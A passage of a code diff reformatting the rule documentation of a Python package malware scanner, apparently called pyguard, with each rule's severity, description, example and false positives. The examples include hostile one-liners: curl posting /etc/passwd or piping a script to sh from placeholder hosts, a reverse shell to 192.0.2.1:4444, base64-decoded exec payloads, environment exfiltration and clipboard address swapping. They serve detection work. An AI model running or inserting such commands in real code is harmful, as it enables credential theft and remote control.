@@ -7,7 +7,18 @@ import { TARGET_RULE_DOCS } from './target-rules.ts';
 export interface RuleDoc {
   id: string;
   name: string;
-  family: 'egress' | 'unaudited' | 'process' | 'dynamic-code' | 'data-flow' | 'install-hook' | 'secrets' | 'archive' | 'package' | 'metadata' | 'known-malware';
+  family:
+    | 'egress'
+    | 'unaudited'
+    | 'process'
+    | 'dynamic-code'
+    | 'data-flow'
+    | 'install-hook'
+    | 'secrets'
+    | 'archive'
+    | 'package'
+    | 'metadata'
+    | 'known-malware';
   severity: Severity;
   catches: string;
   example: string;
@@ -17,53 +28,415 @@ export interface RuleDoc {
 /** Rules about code, reported per file. */
 const CODE_RULE_DOCS: RuleDoc[] = [
   // egress
-  { id: 'egress-network-call', name: 'Outbound network call', family: 'egress', severity: 'info', catches: 'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts; raised one level for import-time code and two for install or startup code.', example: 'requests.post("https://collector.example/v1", json=data)', falsePositives: 'HTTP clients and SDKs call the network by design; at call time these stay info or low.' },
-  { id: 'egress-dns-lookup', name: 'DNS lookup', family: 'egress', severity: 'info', catches: 'Name resolution (socket.gethostbyname, getaddrinfo, dns.resolver) that can carry data in the queried name (DNS exfiltration); a name built as f"{data}.domain" is reported with the fixed domain as a dynamic-subdomain destination.', example: 'socket.gethostbyname(f"{user}.x.example")', falsePositives: 'Resolving a host the user configured.' },
-  { id: 'egress-dynamic-attribute', name: 'Network API chosen at run time', family: 'egress', severity: 'low', catches: 'getattr(requests, name)(...) with a computed attribute name on a network module, which hides which call is made.', example: 'getattr(requests, method)(url)', falsePositives: 'Generic wrappers that dispatch an HTTP verb by name.' },
-  { id: 'network-import', name: 'Network module imported', family: 'egress', severity: 'info', catches: 'A network module imported by a file in which no outbound call was found (a capability, not egress).', example: 'import socket', falsePositives: 'Imports for exception classes or constants (socket.timeout).' },
-  { id: 'telemetry-sdk', name: 'Telemetry SDK imported', family: 'egress', severity: 'info', catches: 'An analytics or error-reporting SDK (Sentry, PostHog, Mixpanel, Segment, Amplitude, Datadog, OpenTelemetry exporters, New Relic, Bugsnag, Rollbar, ...).', example: 'import sentry_sdk', falsePositives: 'Optional integrations that only run when the user configures them.' },
-  { id: 'telemetry-call', name: 'Telemetry sent', family: 'egress', severity: 'low', catches: 'Initialising or calling a telemetry SDK, which sends usage or error data to its vendor.', example: 'sentry_sdk.init(dsn=DSN)', falsePositives: 'Opt-in telemetry guarded by a setting.' },
-  { id: 'hardcoded-endpoint', name: 'Hard-coded endpoint', family: 'egress', severity: 'info', catches: 'A URL or IP address constant that code uses (not in comments, docstrings, messages, comparisons or unused metadata such as __url__), when no network call already reports it. Medium for webhooks, paste sites, tunnels, IP-lookup services, IP literals and throwaway TLDs.', example: 'WEBHOOK = "https://discord.example/api/webhooks/123456/abc"', falsePositives: 'Default API base URLs of SDKs (info).' },
+  {
+    id: 'egress-network-call',
+    name: 'Outbound network call',
+    family: 'egress',
+    severity: 'info',
+    catches:
+      'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts; raised one level for import-time code and two for install or startup code.',
+    example: 'requests.post("https://collector.example/v1", json=data)',
+    falsePositives: 'HTTP clients and SDKs call the network by design; at call time these stay info or low.',
+  },
+  {
+    id: 'egress-dns-lookup',
+    name: 'DNS lookup',
+    family: 'egress',
+    severity: 'info',
+    catches:
+      'Name resolution (socket.gethostbyname, getaddrinfo, dns.resolver) that can carry data in the queried name (DNS exfiltration); a name built as f"{data}.domain" is reported with the fixed domain as a dynamic-subdomain destination.',
+    example: 'socket.gethostbyname(f"{user}.x.example")',
+    falsePositives: 'Resolving a host the user configured.',
+  },
+  {
+    id: 'egress-dynamic-attribute',
+    name: 'Network API chosen at run time',
+    family: 'egress',
+    severity: 'low',
+    catches:
+      'getattr(requests, name)(...) with a computed attribute name on a network module, which hides which call is made.',
+    example: 'getattr(requests, method)(url)',
+    falsePositives: 'Generic wrappers that dispatch an HTTP verb by name.',
+  },
+  {
+    id: 'network-import',
+    name: 'Network module imported',
+    family: 'egress',
+    severity: 'info',
+    catches: 'A network module imported by a file in which no outbound call was found (a capability, not egress).',
+    example: 'import socket',
+    falsePositives: 'Imports for exception classes or constants (socket.timeout).',
+  },
+  {
+    id: 'telemetry-sdk',
+    name: 'Telemetry SDK imported',
+    family: 'egress',
+    severity: 'info',
+    catches:
+      'An analytics or error-reporting SDK (Sentry, PostHog, Mixpanel, Segment, Amplitude, Datadog, OpenTelemetry exporters, New Relic, Bugsnag, Rollbar, ...).',
+    example: 'import sentry_sdk',
+    falsePositives: 'Optional integrations that only run when the user configures them.',
+  },
+  {
+    id: 'telemetry-call',
+    name: 'Telemetry sent',
+    family: 'egress',
+    severity: 'low',
+    catches: 'Initialising or calling a telemetry SDK, which sends usage or error data to its vendor.',
+    example: 'sentry_sdk.init(dsn=DSN)',
+    falsePositives: 'Opt-in telemetry guarded by a setting.',
+  },
+  {
+    id: 'hardcoded-endpoint',
+    name: 'Hard-coded endpoint',
+    family: 'egress',
+    severity: 'info',
+    catches:
+      'A URL or IP address constant that code uses (not in comments, docstrings, messages, comparisons or unused metadata such as __url__), when no network call already reports it. Medium for webhooks, paste sites, tunnels, IP-lookup services, IP literals and throwaway TLDs.',
+    example: 'WEBHOOK = "https://discord.example/api/webhooks/123456/abc"',
+    falsePositives: 'Default API base URLs of SDKs (info).',
+  },
   // secrets
-  { id: 'hardcoded-api-key', name: 'Hard-coded API key or DSN', family: 'secrets', severity: 'low', catches: 'A credential of a remote service recognisable by its shape: Sentry DSN, PostHog phc_ key, AWS AKIA/ASIA key id, GitHub, Slack, Stripe, Google, OpenAI, Anthropic, Telegram bot and Discord bot tokens, private keys. Placeholders (EXAMPLE, xxxx, your-key) are skipped.', example: 'posthog.Posthog("phc_...", host=...)', falsePositives: 'Public client keys that vendors intend to ship (e.g. a PostHog project key).' },
-  { id: 'hardcoded-secret', name: 'Hard-coded credential', family: 'secrets', severity: 'low', catches: 'A random-looking string stored under a secret-like name (api_key, token, secret, password, dsn, write_key).', example: 'API_KEY = "9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"', falsePositives: 'Test fixtures with fake keys that look random.' },
+  {
+    id: 'hardcoded-api-key',
+    name: 'Hard-coded API key or DSN',
+    family: 'secrets',
+    severity: 'low',
+    catches:
+      'A credential of a remote service recognisable by its shape: Sentry DSN, PostHog phc_ key, AWS AKIA/ASIA key id, GitHub, Slack, Stripe, Google, OpenAI, Anthropic, Telegram bot and Discord bot tokens, private keys. Placeholders (EXAMPLE, xxxx, your-key) are skipped.',
+    example: 'posthog.Posthog("phc_...", host=...)',
+    falsePositives: 'Public client keys that vendors intend to ship (e.g. a PostHog project key).',
+  },
+  {
+    id: 'hardcoded-secret',
+    name: 'Hard-coded credential',
+    family: 'secrets',
+    severity: 'low',
+    catches:
+      'A random-looking string stored under a secret-like name (api_key, token, secret, password, dsn, write_key).',
+    example: 'API_KEY = "9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"',
+    falsePositives: 'Test fixtures with fake keys that look random.',
+  },
   // process
-  { id: 'process-spawn', name: 'Process started', family: 'process', severity: 'info', catches: 'subprocess, os.system, os.popen, os.exec*, os.spawn*, pty.spawn, asyncio subprocesses (a capability). Low in install, import or startup code.', example: 'subprocess.run(["git", "describe"])', falsePositives: 'Build helpers that run compilers or git.' },
-  { id: 'process-network-tool', name: 'Process that reaches the network', family: 'process', severity: 'medium', catches: 'A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin or certutil -urlcache.', example: 'os.system("curl -d @/etc/passwd https://x.example")', falsePositives: 'Build scripts that download toolchains.' },
-  { id: 'silent-process', name: 'Hidden process', family: 'process', severity: 'medium', catches: 'A process started without a window, detached or in a new session (CREATE_NO_WINDOW, DETACHED_PROCESS, start_new_session, nohup, setsid).', example: 'subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)', falsePositives: 'Daemons and GUI launchers.' },
-  { id: 'process-launch-payload', name: 'Launches a payload', family: 'process', severity: 'high', catches: 'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd). High in code that runs at install, start-up or import; low when called.', example: 'os.system("start " + path + "\\\\update.exe")', falsePositives: 'Command-line tools that open files or run helper scripts when the user asks (low).' },
-  { id: 'process-pip-install', name: 'Installs packages while running', family: 'process', severity: 'medium', catches: 'pip install run from code that runs at install, start-up or import: a second stage that no lock file pins and no audit saw.', example: 'os.system("pip install helper-lib") in setup.py', falsePositives: 'Old setup.py files that install their build requirements by hand.' },
-  { id: 'download-execute', name: 'Download and execute', family: 'process', severity: 'high', catches: 'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response.', example: 'os.system("curl -s https://x.example/i.sh | sh")', falsePositives: 'Installers of developer tools (rare in libraries).' },
-  { id: 'powershell-encoded-command', name: 'Encoded PowerShell', family: 'process', severity: 'high', catches: 'powershell -EncodedCommand / -enc with a base64 UTF-16LE script, decoded and shown.', example: 'subprocess.run("powershell -enc SQBFAFgA...")', falsePositives: 'None known in libraries.' },
+  {
+    id: 'process-spawn',
+    name: 'Process started',
+    family: 'process',
+    severity: 'info',
+    catches:
+      'subprocess, os.system, os.popen, os.exec*, os.spawn*, pty.spawn, asyncio subprocesses (a capability). Low in install, import or startup code.',
+    example: 'subprocess.run(["git", "describe"])',
+    falsePositives: 'Build helpers that run compilers or git.',
+  },
+  {
+    id: 'process-network-tool',
+    name: 'Process that reaches the network',
+    family: 'process',
+    severity: 'medium',
+    catches:
+      'A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin or certutil -urlcache.',
+    example: 'os.system("curl -d @/etc/passwd https://x.example")',
+    falsePositives: 'Build scripts that download toolchains.',
+  },
+  {
+    id: 'silent-process',
+    name: 'Hidden process',
+    family: 'process',
+    severity: 'medium',
+    catches:
+      'A process started without a window, detached or in a new session (CREATE_NO_WINDOW, DETACHED_PROCESS, start_new_session, nohup, setsid).',
+    example: 'subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)',
+    falsePositives: 'Daemons and GUI launchers.',
+  },
+  {
+    id: 'process-launch-payload',
+    name: 'Launches a payload',
+    family: 'process',
+    severity: 'high',
+    catches:
+      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd). High in code that runs at install, start-up or import; low when called.',
+    example: 'os.system("start " + path + "\\\\update.exe")',
+    falsePositives: 'Command-line tools that open files or run helper scripts when the user asks (low).',
+  },
+  {
+    id: 'process-pip-install',
+    name: 'Installs packages while running',
+    family: 'process',
+    severity: 'medium',
+    catches:
+      'pip install run from code that runs at install, start-up or import: a second stage that no lock file pins and no audit saw.',
+    example: 'os.system("pip install helper-lib") in setup.py',
+    falsePositives: 'Old setup.py files that install their build requirements by hand.',
+  },
+  {
+    id: 'download-execute',
+    name: 'Download and execute',
+    family: 'process',
+    severity: 'high',
+    catches: 'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response.',
+    example: 'os.system("curl -s https://x.example/i.sh | sh")',
+    falsePositives: 'Installers of developer tools (rare in libraries).',
+  },
+  {
+    id: 'powershell-encoded-command',
+    name: 'Encoded PowerShell',
+    family: 'process',
+    severity: 'high',
+    catches: 'powershell -EncodedCommand / -enc with a base64 UTF-16LE script, decoded and shown.',
+    example: 'subprocess.run("powershell -enc SQBFAFgA...")',
+    falsePositives: 'None known in libraries.',
+  },
   // dynamic code and hiding
-  { id: 'dynamic-code-exec', name: 'exec/eval of dynamic data', family: 'dynamic-code', severity: 'info', catches: 'exec, eval, compile or execfile of a value computed at run time (info when called by the user, low on import, medium at install or startup).', example: 'exec(code, namespace)', falsePositives: 'Templating and code generation (dataclasses, namedtuple).' },
-  { id: 'exec-decoded-payload', name: 'exec of a decoded payload', family: 'dynamic-code', severity: 'high', catches: 'exec/eval of data decoded at run time (base64, base32, base85, hex, zlib, gzip, bz2, rot13, Fernet with a literal key, and chains); the payload is decoded statically and rescanned as a virtual file FILE#decoded-N.', example: 'exec(base64.b64decode("aW1wb3J0IG9z..."))', falsePositives: 'None known.' },
-  { id: 'decoded-python', name: 'Decoded Python code', family: 'dynamic-code', severity: 'medium', catches: 'A constant that decodes to Python source (even when not passed straight to exec); it is rescanned as a virtual file.', example: 'payload = zlib.decompress(base64.b64decode(BLOB))', falsePositives: 'Packed data that happens to look like code.' },
-  { id: 'exec-marshal', name: 'exec of marshalled code', family: 'dynamic-code', severity: 'high', catches: 'exec/eval of a code object built by marshal.loads.', example: 'exec(marshal.loads(data))', falsePositives: 'None known in libraries.' },
-  { id: 'marshal-code', name: 'Code from marshal', family: 'dynamic-code', severity: 'medium', catches: 'marshal.loads/load building code from bytes (high when the bytes are decoded from a constant).', example: 'marshal.loads(zlib.decompress(blob))', falsePositives: 'Bytecode caches and tooling.' },
-  { id: 'code-object', name: 'Hand-built code object', family: 'dynamic-code', severity: 'low', catches: 'types.CodeType / types.FunctionType built by hand.', example: 'types.FunctionType(code, globals())', falsePositives: 'Decorator and serialization libraries.' },
-  { id: 'file-executed-as-code', name: 'Non-Python file run as code', family: 'dynamic-code', severity: 'low', catches: 'exec/eval/compile of a file read with open(...).read(), Path(...).read_text(), pkgutil.get_data or importlib.resources, runpy.run_path, execfile, or the importlib loaders given a path, when the file is not named like Python (LICENSE.txt, data.dat). The member is analysed as Python with the trigger of the code that runs it, and its own findings decide the verdict. Medium in code that runs by itself.', example: 'exec(open("LICENSE.txt").read())', falsePositives: 'Build scripts that keep a version in a VERSION file and exec it.' },
-  { id: 'exec-custom-decoder', name: 'Home-made obfuscator', family: 'dynamic-code', severity: 'medium', catches: 'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR): a cipher with no standard decoder to undo it. High in code that runs at install, start-up or import.', example: 'exec("".join(KEY[ABC.index(c)] for c in "kirmg(...)"))', falsePositives: 'Code generators that rewrite a long template per character (none seen on the benign set).' },
-  { id: 'obfuscated-builtin', name: 'Builtin reached by an obfuscated name', family: 'dynamic-code', severity: 'high', catches: 'exec/eval/compile reached through getattr(__builtins__, "ex"+"ec"), globals()["eval"], __import__("builtins").exec and the like.', example: 'getattr(__builtins__, "ex" + "ec")(src)', falsePositives: 'None known.' },
-  { id: 'dynamic-import', name: 'Import by string', family: 'dynamic-code', severity: 'low', catches: '__import__("socket") or importlib.import_module("base64") of a sensitive module by a constant string, which hides the import.', example: '__import__("os").system(cmd)', falsePositives: 'Compatibility shims.' },
-  { id: 'pyarmor-loader', name: 'PyArmor loader', family: 'dynamic-code', severity: 'medium', catches: 'PyArmor runtime calls that load encrypted code nobody can review.', example: 'from pytransform import pyarmor_runtime; pyarmor_runtime()', falsePositives: 'Commercial packages that protect their code.' },
-  { id: 'hidden-code', name: 'Code hidden off-screen', family: 'dynamic-code', severity: 'medium', catches: 'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes).', example: 'x = 1' + ' '.repeat(8) + '...;exec(...)', falsePositives: 'Generated data tables with wide alignment.' },
+  {
+    id: 'dynamic-code-exec',
+    name: 'exec/eval of dynamic data',
+    family: 'dynamic-code',
+    severity: 'info',
+    catches:
+      'exec, eval, compile or execfile of a value computed at run time (info when called by the user, low on import, medium at install or startup).',
+    example: 'exec(code, namespace)',
+    falsePositives: 'Templating and code generation (dataclasses, namedtuple).',
+  },
+  {
+    id: 'exec-decoded-payload',
+    name: 'exec of a decoded payload',
+    family: 'dynamic-code',
+    severity: 'high',
+    catches:
+      'exec/eval of data decoded at run time (base64, base32, base85, hex, zlib, gzip, bz2, rot13, Fernet with a literal key, and chains); the payload is decoded statically and rescanned as a virtual file FILE#decoded-N.',
+    example: 'exec(base64.b64decode("aW1wb3J0IG9z..."))',
+    falsePositives: 'None known.',
+  },
+  {
+    id: 'decoded-python',
+    name: 'Decoded Python code',
+    family: 'dynamic-code',
+    severity: 'medium',
+    catches:
+      'A constant that decodes to Python source (even when not passed straight to exec); it is rescanned as a virtual file.',
+    example: 'payload = zlib.decompress(base64.b64decode(BLOB))',
+    falsePositives: 'Packed data that happens to look like code.',
+  },
+  {
+    id: 'exec-marshal',
+    name: 'exec of marshalled code',
+    family: 'dynamic-code',
+    severity: 'high',
+    catches: 'exec/eval of a code object built by marshal.loads.',
+    example: 'exec(marshal.loads(data))',
+    falsePositives: 'None known in libraries.',
+  },
+  {
+    id: 'marshal-code',
+    name: 'Code from marshal',
+    family: 'dynamic-code',
+    severity: 'medium',
+    catches: 'marshal.loads/load building code from bytes (high when the bytes are decoded from a constant).',
+    example: 'marshal.loads(zlib.decompress(blob))',
+    falsePositives: 'Bytecode caches and tooling.',
+  },
+  {
+    id: 'code-object',
+    name: 'Hand-built code object',
+    family: 'dynamic-code',
+    severity: 'low',
+    catches: 'types.CodeType / types.FunctionType built by hand.',
+    example: 'types.FunctionType(code, globals())',
+    falsePositives: 'Decorator and serialization libraries.',
+  },
+  {
+    id: 'file-executed-as-code',
+    name: 'Non-Python file run as code',
+    family: 'dynamic-code',
+    severity: 'low',
+    catches:
+      'exec/eval/compile of a file read with open(...).read(), Path(...).read_text(), pkgutil.get_data or importlib.resources, runpy.run_path, execfile, or the importlib loaders given a path, when the file is not named like Python (LICENSE.txt, data.dat). The member is analysed as Python with the trigger of the code that runs it, and its own findings decide the verdict. Medium in code that runs by itself.',
+    example: 'exec(open("LICENSE.txt").read())',
+    falsePositives: 'Build scripts that keep a version in a VERSION file and exec it.',
+  },
+  {
+    id: 'exec-custom-decoder',
+    name: 'Home-made obfuscator',
+    family: 'dynamic-code',
+    severity: 'medium',
+    catches:
+      'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR): a cipher with no standard decoder to undo it. High in code that runs at install, start-up or import.',
+    example: 'exec("".join(KEY[ABC.index(c)] for c in "kirmg(...)"))',
+    falsePositives: 'Code generators that rewrite a long template per character (none seen on the benign set).',
+  },
+  {
+    id: 'obfuscated-builtin',
+    name: 'Builtin reached by an obfuscated name',
+    family: 'dynamic-code',
+    severity: 'high',
+    catches:
+      'exec/eval/compile reached through getattr(__builtins__, "ex"+"ec"), globals()["eval"], __import__("builtins").exec and the like.',
+    example: 'getattr(__builtins__, "ex" + "ec")(src)',
+    falsePositives: 'None known.',
+  },
+  {
+    id: 'dynamic-import',
+    name: 'Import by string',
+    family: 'dynamic-code',
+    severity: 'low',
+    catches:
+      '__import__("socket") or importlib.import_module("base64") of a sensitive module by a constant string, which hides the import.',
+    example: '__import__("os").system(cmd)',
+    falsePositives: 'Compatibility shims.',
+  },
+  {
+    id: 'pyarmor-loader',
+    name: 'PyArmor loader',
+    family: 'dynamic-code',
+    severity: 'medium',
+    catches: 'PyArmor runtime calls that load encrypted code nobody can review.',
+    example: 'from pytransform import pyarmor_runtime; pyarmor_runtime()',
+    falsePositives: 'Commercial packages that protect their code.',
+  },
+  {
+    id: 'hidden-code',
+    name: 'Code hidden off-screen',
+    family: 'dynamic-code',
+    severity: 'medium',
+    catches:
+      'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes).',
+    example: 'x = 1' + ' '.repeat(8) + '...;exec(...)',
+    falsePositives: 'Generated data tables with wide alignment.',
+  },
   // data flow
-  { id: 'exfiltration', name: 'Secret or identity sent out', family: 'data-flow', severity: 'high', catches: 'A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file\'s own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs.', example: 'requests.post(URL, json=dict(os.environ))', falsePositives: 'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high).' },
-  { id: 'sensitive-file-access', name: 'Credential file referenced', family: 'data-flow', severity: 'low', catches: 'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history).', example: 'open(os.path.expanduser("~/.aws/credentials"))', falsePositives: 'SDKs and tools that read their own configuration (botocore, requests\' .netrc support).' },
-  { id: 'persistence', name: 'Persistence location', family: 'data-flow', severity: 'medium', catches: 'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files.', example: 'winreg.SetValueEx(key, "upd", 0, REG_SZ, path)  # Software\\Microsoft\\Windows\\CurrentVersion\\Run', falsePositives: 'System administration tools.' },
+  {
+    id: 'exfiltration',
+    name: 'Secret or identity sent out',
+    family: 'data-flow',
+    severity: 'high',
+    catches:
+      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs.",
+    example: 'requests.post(URL, json=dict(os.environ))',
+    falsePositives:
+      'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high).',
+  },
+  {
+    id: 'sensitive-file-access',
+    name: 'Credential file referenced',
+    family: 'data-flow',
+    severity: 'low',
+    catches:
+      'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history).',
+    example: 'open(os.path.expanduser("~/.aws/credentials"))',
+    falsePositives: "SDKs and tools that read their own configuration (botocore, requests' .netrc support).",
+  },
+  {
+    id: 'persistence',
+    name: 'Persistence location',
+    family: 'data-flow',
+    severity: 'medium',
+    catches:
+      'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files.',
+    example: 'winreg.SetValueEx(key, "upd", 0, REG_SZ, path)  # Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+    falsePositives: 'System administration tools.',
+  },
   // install-time hooks
-  { id: 'install-hook-cmdclass', name: 'setup.py command override', family: 'install-hook', severity: 'low', catches: 'setup(cmdclass={"install": ...}) and friends: code pip runs while installing an sdist.', example: 'setup(cmdclass={"install": PostInstall})', falsePositives: 'Packages with compiled extensions override build_ext legitimately.' },
-  { id: 'env-read', name: 'Environment read', family: 'data-flow', severity: 'info', catches: 'Reading the whole environment (dict(os.environ), os.environ.copy/items) or a variable named like a credential (…KEY, …TOKEN, …SECRET, AWS_SECRET_…): the env capability. The exfiltration rule reports it when the value reaches the network.', example: 'token = os.getenv("GITHUB_TOKEN")', falsePositives: 'SDKs reading their own API key from the environment (info only).' },
-  { id: 'clipboard-hijack', name: 'Clipboard hijacking', family: 'data-flow', severity: 'medium', catches: 'Code that reads the clipboard and writes it back (pyperclip, win32clipboard, tkinter): the crypto-address swappers. High in code that runs by itself.', example: 'if ADDRESS.match(pyperclip.paste()): pyperclip.copy(MY_ADDRESS)', falsePositives: 'Clipboard managers and editors that transform what the user copied.' },
-  { id: 'drop-and-run', name: 'Writes and runs an executable', family: 'process', severity: 'medium', catches: 'Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself.', example: 'open(path, "wb").write(payload); os.startfile(path)', falsePositives: 'Installers that generate and run helper scripts.' },
-  { id: 'reverse-shell', name: 'Reverse shell', family: 'process', severity: 'high', catches: 'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives.', example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")', falsePositives: 'Remote-debugging and terminal-sharing tools.' },
-  { id: 'keylogger', name: 'Keystroke recording', family: 'data-flow', severity: 'medium', catches: 'Keyboard hooks (pynput Listener, keyboard.on_press/hook, GetAsyncKeyState); high when the same file sends data over the network.', example: 'pynput.keyboard.Listener(on_press=log).start()', falsePositives: 'Hotkey and automation libraries.' },
-  { id: 'build-hook', name: 'Build code run at install', family: 'install-hook', severity: 'low', catches: 'An sdist whose pyproject.toml builds it with an in-tree PEP 517 backend (backend-path), a hatch custom build hook (hatch_build.py or its path) or a pdm build hook (pdm_build.py): pip runs that code when it installs the sdist, and pyguard analyses it as install-time code.', example: '[build-system] build-backend = "backend" backend-path = ["_build"]', falsePositives: 'Projects that build themselves (setuptools, flit_core) and legitimate hatch hooks that generate files.' },
-  { id: 'pth-executes-code', name: '.pth file runs code', family: 'install-hook', severity: 'low', catches: 'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large.', example: 'import base64;exec(base64.b64decode("..."))', falsePositives: 'setuptools\' distutils-precedence.pth and editable-install hooks (reported low).' },
+  {
+    id: 'install-hook-cmdclass',
+    name: 'setup.py command override',
+    family: 'install-hook',
+    severity: 'low',
+    catches: 'setup(cmdclass={"install": ...}) and friends: code pip runs while installing an sdist.',
+    example: 'setup(cmdclass={"install": PostInstall})',
+    falsePositives: 'Packages with compiled extensions override build_ext legitimately.',
+  },
+  {
+    id: 'env-read',
+    name: 'Environment read',
+    family: 'data-flow',
+    severity: 'info',
+    catches:
+      'Reading the whole environment (dict(os.environ), os.environ.copy/items) or a variable named like a credential (…KEY, …TOKEN, …SECRET, AWS_SECRET_…): the env capability. The exfiltration rule reports it when the value reaches the network.',
+    example: 'token = os.getenv("GITHUB_TOKEN")',
+    falsePositives: 'SDKs reading their own API key from the environment (info only).',
+  },
+  {
+    id: 'clipboard-hijack',
+    name: 'Clipboard hijacking',
+    family: 'data-flow',
+    severity: 'medium',
+    catches:
+      'Code that reads the clipboard and writes it back (pyperclip, win32clipboard, tkinter): the crypto-address swappers. High in code that runs by itself.',
+    example: 'if ADDRESS.match(pyperclip.paste()): pyperclip.copy(MY_ADDRESS)',
+    falsePositives: 'Clipboard managers and editors that transform what the user copied.',
+  },
+  {
+    id: 'drop-and-run',
+    name: 'Writes and runs an executable',
+    family: 'process',
+    severity: 'medium',
+    catches:
+      'Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself.',
+    example: 'open(path, "wb").write(payload); os.startfile(path)',
+    falsePositives: 'Installers that generate and run helper scripts.',
+  },
+  {
+    id: 'reverse-shell',
+    name: 'Reverse shell',
+    family: 'process',
+    severity: 'high',
+    catches:
+      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives.',
+    example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
+    falsePositives: 'Remote-debugging and terminal-sharing tools.',
+  },
+  {
+    id: 'keylogger',
+    name: 'Keystroke recording',
+    family: 'data-flow',
+    severity: 'medium',
+    catches:
+      'Keyboard hooks (pynput Listener, keyboard.on_press/hook, GetAsyncKeyState); high when the same file sends data over the network.',
+    example: 'pynput.keyboard.Listener(on_press=log).start()',
+    falsePositives: 'Hotkey and automation libraries.',
+  },
+  {
+    id: 'build-hook',
+    name: 'Build code run at install',
+    family: 'install-hook',
+    severity: 'low',
+    catches:
+      'An sdist whose pyproject.toml builds it with an in-tree PEP 517 backend (backend-path), a hatch custom build hook (hatch_build.py or its path) or a pdm build hook (pdm_build.py): pip runs that code when it installs the sdist, and pyguard analyses it as install-time code.',
+    example: '[build-system] build-backend = "backend" backend-path = ["_build"]',
+    falsePositives:
+      'Projects that build themselves (setuptools, flit_core) and legitimate hatch hooks that generate files.',
+  },
+  {
+    id: 'pth-executes-code',
+    name: '.pth file runs code',
+    family: 'install-hook',
+    severity: 'low',
+    catches:
+      'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large.',
+    example: 'import base64;exec(base64.b64decode("..."))',
+    falsePositives: "setuptools' distutils-precedence.pth and editable-install hooks (reported low).",
+  },
   // not analysed: the target is unaudited
-  { id: 'file-not-analysed', name: 'File not analysed', family: 'unaudited', severity: 'medium', catches: 'A file pyguard could not analyse as Python would read it: over the 16 MiB parse limit, parsing stopped by its time budget, a coding cookie naming a codec that cannot be decoded faithfully here (hz, johab, iso2022_kr with non-ASCII bytes; an unresolvable \\N{...} under unicode_escape), a payload decoded more than 3 layers deep, the decoding budget of the target spent, or an archive member whose bytes were not read (size limit, unsupported compression, bad CRC).', example: '# coding: hz  (with ~{ shift sequences)', falsePositives: 'Huge generated modules (tables, vendored bundles) over the parse limit.' },
